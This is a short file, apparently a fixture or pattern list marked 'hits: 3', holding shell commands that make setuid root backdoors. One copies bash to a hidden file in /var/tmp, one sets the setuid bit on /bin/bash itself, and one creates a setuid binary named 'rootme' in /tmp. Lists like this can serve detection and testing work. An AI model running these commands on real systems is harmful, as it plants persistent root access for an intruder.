# SPDX-License-Identifier: Apache-2.0
# hits: 3
cp /bin/bash /var/tmp/.sh
chmod u+s /var/tmp/.sh
chmod 4755 /bin/bash
cd /tmp
cp /usr/bin/true rootme
chmod +s rootme
